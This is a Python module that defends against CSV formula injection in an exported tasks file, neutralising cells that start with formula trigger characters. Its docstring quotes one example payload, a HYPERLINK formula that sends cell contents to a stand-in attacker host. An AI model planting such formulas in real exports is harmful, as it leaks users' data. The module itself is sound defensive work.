"""Spreadsheet safety for CSV cells (OWASP "CSV injection").

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some also after a leading tab or carriage return), so a task titled
``=HYPERLINK("https://evil.example/?"&A1)`` could leak the sheet or run commands when an
exported tasks.csv is opened. Such cells are written with a leading ``'``, which every
spreadsheet program shows as text and hides. The full-width forms (U+FF1D, …) are included:
some programs fold them to the ASCII ones.
"""

from __future__ import annotations

#: Characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def neutralise(value: str) -> str:
    return f"'{value}" if value and value[0] in FORMULA_TRIGGERS else value


def unneutralise(value: str) -> str:
    """The inverse of :func:`neutralise`: only a quote that it would have added is removed."""
    if len(value) > 1 and value[0] == "'" and value[1] in FORMULA_TRIGGERS:
        return value[1:]
    return value
